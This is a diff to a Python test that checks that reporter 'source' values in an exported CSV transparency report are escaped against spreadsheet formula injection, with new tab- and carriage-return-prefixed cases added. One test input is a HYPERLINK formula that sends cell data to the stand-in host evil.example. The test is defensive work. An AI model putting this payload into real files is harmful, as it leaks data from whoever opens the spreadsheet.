@@ -327,7 +327,7 @@ def test_a_source_in_csv_is_never_a_spreadsheet_formula(system: Container) -> No
     """A reporter's ``source`` opens a cell of the CSV: one starting as a formula would run in
     the spreadsheet an operator opens the transparency report in."""
     formula = '=HYPERLINK("http://evil.example/?"&A1,"details")'
-    for source in (formula, "@SUM(1+1)", "+1", "-1", "mail-classifier"):
+    for source in (formula, "@SUM(1+1)", "+1", "-1", "\t=1", "\r=1", "mail-classifier"):
         report(system, "acct_m", "spam", HOUR, source=source)
     now = system.clock()
 
@@ -338,8 +338,9 @@ def test_a_source_in_csv_is_never_a_spreadsheet_formula(system: Container) -> No
 
     assert code == 0, text
     sources = {r[1] for r in csv.reader(io.StringIO(text)) if r[0] == "violations_by_source"}
-    assert {"'" + formula, "'@SUM(1+1)", "'+1", "'-1", "mail-classifier"} <= sources
-    assert not any(s.startswith(("=", "+", "-", "@")) for s in sources)
+    quoted = {"'" + formula, "'@SUM(1+1)", "'+1", "'-1", "'\t=1", "'\r=1"}
+    assert quoted | {"mail-classifier"} <= sources
+    assert not any(s.startswith(("=", "+", "-", "@", "\t", "\r")) for s in sources)
 
 
 def test_a_chart_that_cannot_be_written_is_a_usage_error(system: Container, tmp_path: Path) -> None:
